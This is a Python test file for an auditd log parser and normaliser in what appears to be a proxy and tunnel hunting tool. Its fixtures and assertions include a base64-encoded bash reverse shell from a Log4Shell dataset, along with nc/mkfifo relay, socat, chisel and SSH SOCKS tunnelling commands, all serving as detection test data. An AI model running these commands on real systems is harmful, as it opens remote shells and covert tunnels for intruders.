"""auditd reader, auoms parser and the auditd normaliser, on real and authored logs."""

from __future__ import annotations

import io
import json
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import pytest

from proxyhunt.diagnostics import Diagnostics
from proxyhunt.model import KIND_AUDITD, PROCESS_CREATION, Event, Record
from proxyhunt.normalise.auditd import join_argv, normalise
from proxyhunt.sources.auditd import READER, parse_auoms, parse_line
from proxyhunt.sources.base import DEFAULT_LIMITS, Limits

CORPUS = Path(__file__).parents[1].parent / "shared" / "corpus"
FIXTURES = Path(__file__).parent / "fixtures" / "linux"
SSH_D = ["ssh", "-D", "1080", "user@192.168.1.10"]


def corpus_file(relative: str) -> Path:
    path = CORPUS / relative
    if not path.is_file():
        pytest.skip(f"corpus file {relative} not found under {CORPUS} (shared corpus absent)")
    return path


def read(data: bytes, limits: Limits = DEFAULT_LIMITS) -> tuple[list[Record], Diagnostics]:
    diag = Diagnostics()
    records = list(READER.read(io.BytesIO(data), "test.log", diag, limits))
    return records, diag


def read_fixture(name: str) -> tuple[list[Record], Diagnostics]:
    return read((FIXTURES / name).read_bytes())


def norm(record: Record) -> Event:
    event = normalise(record)
    assert event is not None
    return event


def by_pid(records: list[Record]) -> dict[int | None, dict]:
    return {r.data["pid"]: r.data for r in records}


# ---------------------------------------------------------------------------- real corpus


@pytest.mark.corpus
def test_arp_cache_execve_and_proctitle() -> None:
    path = corpus_file("Security-Datasets/datasets/atomic/linux/discovery/host/sh_arp_cache.zip")
    with zipfile.ZipFile(path) as archive:
        raw = archive.read(archive.namelist()[0])
    records, diag = read(raw)
    assert [r.data["argv"] for r in records] == [["arp", "-a"], ["grep", "-v", "^?"]]
    assert [r.data["exe"] for r in records] == ["/usr/sbin/arp", "/bin/grep"]
    assert records[0].data["pid"] == 1631 and records[0].data["ppid"] == 29002
    assert records[0].data["cwd"] == "/home/wardog"
    assert diag.skipped == 0

    # The same events with their EXECVE records removed: argv from the hex PROCTITLE.
    no_execve = b"\n".join(line for line in raw.splitlines() if b"type=EXECVE" not in line)
    records, _ = read(no_execve)
    assert [(r.data["argv"], r.data["argv_source"]) for r in records] == [
        (["arp", "-a"], "proctitle"),
        (["grep", "-v", "^?"], "proctitle"),
    ]


@pytest.mark.corpus
def test_plaso_enriched_hex_arguments() -> None:
    records, diag = read(corpus_file("plaso/test_data/audit_enriched.log").read_bytes())
    argvs = [r.data["argv"] for r in records]
    assert ["/bin/sh", "-c", "grep -c . /etc/hostname"] in argvs
    assert ["/usr/bin/cat", "/tmp/my report.txt"] in argvs
    assert {r.data["user"] for r in records} == {"root"}
    assert diag.skipped == 0


@pytest.mark.corpus
def test_elastic_hex_arg_without_trailing_newline() -> None:
    path = "elastic-beats/filebeat/module/auditd/log/test/execve-hex-arg.log"
    records, diag = read(corpus_file(path).read_bytes())
    assert [r.data["argv"] for r in records] == [["sh", "-c", 'echo \\"arg hex encoded\\"']]
    assert diag.skipped == 0


@pytest.mark.corpus
def test_elastic_mixed_and_interpreted_lines() -> None:
    records, diag = read(
        corpus_file("elastic-beats/filebeat/module/auditd/log/test/test.log").read_bytes()
    )
    assert diag.skipped == 0
    assert diag.events_by_format["auditd"] == 15
    events = {r.data["serial"]: r.data for r in records}
    assert events[579393]["argv"] == ["top"]
    assert events[579398]["exe"] == "/usr/bin/top"
    assert events[579398]["user"] == "vagrant"
    line = "type=SYSCALL msg=audit(1485893834.891:18877199): arch=c000003e syscall=44 exe="
    rec = parse_line(line + "2F7573722F6C6962657865632F7374726F6E677377616E2F636861726F6E")
    assert rec.fields["exe"].quoted is False


def log4shell_messages(name: str) -> list[str]:
    path = corpus_file(f"Security-Datasets/datasets/compound/Log4Shell/{name}")
    with zipfile.ZipFile(path) as archive:
        lines = archive.read(archive.namelist()[0]).decode("utf-8").splitlines()
    return [json.loads(line)["SyslogMessage"] for line in lines if line.strip()]


@pytest.mark.corpus
def test_auoms_log4shell_rows_all_parse() -> None:
    messages = log4shell_messages("syslog_auoms_auditd_log4shell_cve2021_44228_jndi_reference.zip")
    parsed = [parse_auoms(m) for m in messages]
    assert len(parsed) == 50
    assert [i for i, p in enumerate(parsed) if p is None] == []
    shell = next(p for p in parsed if p and p["cmdline"] and p["cmdline"].startswith("bash -c"))
    assert shell["cmdline"] == (
        'bash -c "{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}'
        '|{base64,-d}|{bash,-i}"'
    )
    assert (shell["exe"], shell["user"], shell["node"]) == ("/bin/bash", "tomcat", "UBUNTU5")
    failed = [p for p in parsed if p and p["success"] is False]
    assert failed and all(p["argv"] == [] for p in failed)


# ------------------------------------------------------------------------- authored logs


def test_ssh_dynamic_raw_interleaved() -> None:
    records, diag = read_fixture("ssh_socks_raw.log")
    events = by_pid(records)
    assert events[4242]["argv"] == SSH_D
    assert events[4242]["argv_source"] == "execve"
    assert (events[4242]["exe"], events[4242]["cwd"]) == ("/usr/bin/ssh", "/home/alice")
    assert (events[4242]["uid"], events[4242]["key"]) == (1000, "tunnel")
    assert events[4243]["argv"] == ["whoami"] and events[4243]["cwd"] == "/tmp"
    assert diag.skipped == 0


def test_ssh_dynamic_proctitle_only() -> None:
    records, _ = read_fixture("ssh_socks_proctitle.log")
    assert [(r.data["argv"], r.data["argv_source"]) for r in records] == [(SSH_D, "proctitle")]


def test_ssh_dynamic_enriched_names() -> None:
    records, _ = read_fixture("ssh_socks_enriched.log")
    (data,) = [r.data for r in records]
    assert data["argv"] == SSH_D
    assert (data["uid"], data["user"], data["auid_user"]) == (1000, "alice", "alice")


def test_ssh_dynamic_node_prefix_and_crlf() -> None:
    records, _ = read_fixture("ssh_socks_node.log")
    (data,) = [r.data for r in records]
    assert data["node"] == "srv01.example.local"
    assert data["argv"] == SSH_D
    assert data["key"] == "tunnel"
    assert data["exe"] == "/usr/bin/ssh"


def test_ssh_dynamic_interpreted() -> None:
    records, diag = read_fixture("ssh_socks_interpreted.log")
    (data,) = [r.data for r in records]
    assert data["argv"] == SSH_D
    assert (data["exe"], data["user"], data["uid"], data["pid"]) == (
        "/usr/bin/ssh",
        "alice",
        None,
        4242,
    )
    assert data["time"] == pytest.approx(1700000100.1)
    assert data["timestamp_local"] is True
    assert diag.skipped == 0


def test_tunnels_decoded() -> None:
    records, _ = read_fixture("tunnels_raw.log")
    events = by_pid(records)
    assert events[5001]["argv"] == ["bash", "-c", "ssh -R 8080:127.0.0.1:80 user@203.0.113.10"]
    assert events[5002]["argv"] == ["socat", "TCP-LISTEN:8080,fork", "TCP:10.0.0.5:80"]
    assert events[5003]["argv"] == [
        "sh",
        "-c",
        "mkfifo /tmp/f; nc -l 4444 < /tmp/f | nc 10.0.0.5 80 > /tmp/f",
    ]
    assert [events[p]["argv"] for p in (5004, 5005, 5006)] == [
        ["mkfifo", "/tmp/f"],
        ["nc", "-l", "4444"],
        ["nc", "10.0.0.5", "80"],
    ]
    assert events[5008]["argv"] == ["ssh", "-p", "2222", "-o", "ProxyCommand=nc 10.0.0.5 22"]
    assert events[5009]["argv"] == ["ssh", "-N", "-L", "8080:10.0.0.5:80", "-p", "2222"]
    assert events[5010]["exe"] == "/tmp/.x/my nc (deleted)"


def test_tunnels_bad_lines_are_located_skips() -> None:
    records, diag = read_fixture("tunnels_raw.log")
    assert diag.skipped_by_reason == {"not an audit record": 1, "truncated audit record": 1}
    assert any("test.log: line 8: skipped (not an audit record)" in w for w in diag.warnings)
    assert any("test.log: line 20: skipped (truncated audit record)" in w for w in diag.warnings)
    # The cut EXECVE record is lost, the event is not: argv comes from PROCTITLE.
    chisel = by_pid(records)[5007]
    assert chisel["argv"] == ["chisel", "client", "10.0.0.5:8000", "R:socks"]
    assert chisel["argv_source"] == "proctitle"
    # 12 audit events were read, 11 of them execve (one failed); records after the bad
    # lines were all kept.
    assert diag.events_by_format["auditd"] == 12
    assert len(records) == 11


def test_failed_execve_does_not_borrow_caller_proctitle() -> None:
    records, _ = read_fixture("tunnels_raw.log")
    failed = by_pid(records)[5011]
    assert failed["success"] is False
    assert failed["argv"] == [] and failed["argv_source"] == "none"
    assert normalise(next(r for r in records if r.data["pid"] == 5011)) is None


def test_execve_argc_larger_than_arguments_found() -> None:
    line = 'type=EXECVE msg=audit(1700000300.000:7001): argc=3 a0="ssh" a1="-D"\n'
    records, diag = read(line.encode())
    assert records[0].data["argv"] == ["ssh", "-D"]
    assert diag.skipped_by_reason == {"audit EXECVE incomplete": 1}


def test_quoted_digits_stay_text_and_unquoted_hex_is_bytes() -> None:
    # Field case C26: "2222" quoted is text; hex-decoding it would give garbage.
    arg = b"ProxyCommand=nc 10.0.0.5 22".hex().upper()
    line = (
        "type=EXECVE msg=audit(1700000000.123:4242): "
        f'argc=5 a0="ssh" a1="-p" a2="2222" a3="-o" a4={arg}'
    )
    records, _ = read(line.encode())
    assert records[0].data["argv"] == ["ssh", "-p", "2222", "-o", "ProxyCommand=nc 10.0.0.5 22"]


def test_invalid_utf8_in_hex_argument_is_replaced() -> None:
    line = 'type=EXECVE msg=audit(1700000000.5:1): argc=2 a0="echo" a1=41FF42'
    records, _ = read(line.encode())
    assert records[0].data["argv"] == ["echo", "A\ufffdB"]


def test_proctitle_at_kernel_cap_is_flagged() -> None:
    argv = ["ssh", "-R", "9000:127.0.0.1:22", "x" * 120]
    cut = "\0".join(argv).encode()[:128].hex().upper()
    line = f"type=PROCTITLE msg=audit(1700000000.5:2): proctitle={cut}\n"
    syscall = "type=SYSCALL msg=audit(1700000000.5:2): arch=c000003e syscall=59 success=yes\n"
    records, _ = read((syscall + line).encode())
    assert records[0].data["argv_truncated"] is True
    assert records[0].data["argv"][:3] == ["ssh", "-R", "9000:127.0.0.1:22"]


def test_far_apart_records_of_one_event_merge_within_window() -> None:
    head = 'type=SYSCALL msg=audit(1700000000.1:9): arch=c000003e syscall=59 exe="/usr/bin/ssh"\n'
    filler = "".join(
        f"type=SYSCALL msg=audit(1700000000.2:{100 + i}): arch=c000003e syscall=2\n"
        for i in range(500)
    )
    tail = 'type=EXECVE msg=audit(1700000000.1:9): argc=2 a0="ssh" a1="-D1080"\n'
    records, diag = read((head + filler + tail).encode())
    assert [(r.data["exe"], r.data["argv"]) for r in records] == [
        ("/usr/bin/ssh", ["ssh", "-D1080"])
    ]
    assert diag.events_by_format["auditd"] == 501


def test_open_events_stay_bounded() -> None:
    # Many events without EOE: events are flushed as the window passes, not kept to the end.
    lines = "".join(
        f'type=EXECVE msg=audit(1700000000.{i}:{i}): argc=1 a0="true"\n' for i in range(5000)
    )
    stream = io.BytesIO(lines.encode())
    reader = type(READER)(window=64)
    diag = Diagnostics()
    iterator = reader.read(stream, "big.log", diag, DEFAULT_LIMITS)
    first = next(iterator)
    assert first.data["serial"] == 0
    # The first record came out long before the end of the stream was reached.
    assert stream.tell() < len(lines) // 10
    assert sum(1 for _ in iterator) == 4999


def test_overlong_line_is_a_counted_skip() -> None:
    long_line = 'type=EXECVE msg=audit(1700000000.1:1): argc=1 a0="' + "A" * 500 + '"\n'
    good = 'type=EXECVE msg=audit(1700000000.2:2): argc=1 a0="id"\n'
    records, diag = read((long_line + good).encode(), Limits(max_line_bytes=200))
    assert [r.data["argv"] for r in records] == [["id"]]
    assert diag.skipped_by_reason == {"line too long": 1}
    assert "line 1" in diag.warnings[0]


def test_sniff() -> None:
    assert READER.sniff((FIXTURES / "ssh_socks_node.log").read_bytes(), "x")
    assert READER.sniff((FIXTURES / "tunnels_raw.log").read_bytes(), "x")
    assert not READER.sniff(b'{"SyslogMessage": "type=AUOMS_EXECVE audit(1.2:3): x"}\n', "x")
    assert not READER.sniff((FIXTURES / "sysmon_syslog.log").read_bytes(), "x")


# ---------------------------------------------------------------------------- normaliser


def test_normalise_ssh_dynamic() -> None:
    records, _ = read_fixture("ssh_socks_node.log")
    event = norm(records[0])
    assert (event.category, event.product, event.service) == (PROCESS_CREATION, "linux", "auditd")
    assert event.fields == {
        "Image": "/usr/bin/ssh",
        "CommandLine": "ssh -D 1080 user@192.168.1.10",
        "ProcessId": "4242",
        "ParentProcessId": "4100",
        "User": "1000",
        "CurrentDirectory": "/home/alice",
        "Computer": "srv01.example.local",
        "key": "tunnel",
    }
    assert "ParentImage" not in event.fields
    assert event.time == datetime(2023, 11, 14, 22, 15, 0, 100000, tzinfo=UTC)
    assert event.columns == {
        "ComputerName": "srv01.example.local",
        "UserName": "1000",
        "ImageFileName": "/usr/bin/ssh",
        "ParentBaseFileName": "",
        "TargetProcessId": "4242",
        "ContextProcessId": "4100",
    }


def test_normalise_joins_arguments_unquoted_like_other_linux_sensors() -> None:
    records, _ = read_fixture("tunnels_raw.log")
    events = {r.data["pid"]: norm(r) for r in records if r.data["success"] is not False}
    assert events[5001].fields["CommandLine"] == (
        "bash -c ssh -R 8080:127.0.0.1:80 user@203.0.113.10"
    )
    assert events[5002].fields["CommandLine"] == "socat TCP-LISTEN:8080,fork TCP:10.0.0.5:80"
    assert events[5003].fields["CommandLine"] == (
        "sh -c mkfifo /tmp/f; nc -l 4444 < /tmp/f | nc 10.0.0.5 80 > /tmp/f"
    )
    assert join_argv(["echo", "it's here", "x"]) == "echo it's here x"


def test_normalise_user_name_and_auoms_cmdline() -> None:
    records, _ = read_fixture("ssh_socks_enriched.log")
    assert norm(records[0]).fields["User"] == "alice"
    text = (
        "type=AUOMS_EXECVE audit(1652292622.006:84144): node=H1 syscall=execve success=yes "
        'ppid=1 pid=2 user=bob uid=1001 comm="ssh" exe="/usr/bin/ssh" cwd="/" argc=3 '
        'cmdline="ssh -o "ProxyCommand=nc h 22" x" redactors= containerid='
    )
    data = parse_auoms(text)
    assert data is not None
    event = norm(Record(KIND_AUDITD, data, "azure.json", "line 1", "jsonlog"))
    assert event.fields["CommandLine"] == 'ssh -o "ProxyCommand=nc h 22" x'
    assert (event.fields["User"], event.fields["Computer"]) == ("bob", "H1")
    assert event.event_id == "AUOMS_EXECVE"


def test_parse_auoms_rejects_other_messages() -> None:
    assert parse_auoms("type=AUOMS_SYSCALL audit(1.2:3): syscall=connect") is None
    assert parse_auoms("hello") is None


@pytest.mark.parametrize(
    ("fixture", "reader"),
    [
        ("ssh_socks_raw.log", "auditd"),
        ("ssh_socks_node.log", "auditd"),
        ("ssh_socks_enriched.log", "auditd"),
        ("ssh_socks_interpreted.log", "auditd"),
        ("tunnels_raw.log", "auditd"),
        ("sysmon_syslog.log", "syslog-sysmon"),
    ],
)
def test_registry_picks_linux_readers(fixture: str, reader: str) -> None:
    registry = pytest.importorskip("proxyhunt.sources.registry")
    if reader not in registry.READERS:
        pytest.skip(f"reader {reader!r} is not registered in proxyhunt.sources.registry yet")
    chosen = registry.choose_reader((FIXTURES / fixture).read_bytes()[:65536], fixture)
    assert chosen is not None and chosen.name == reader
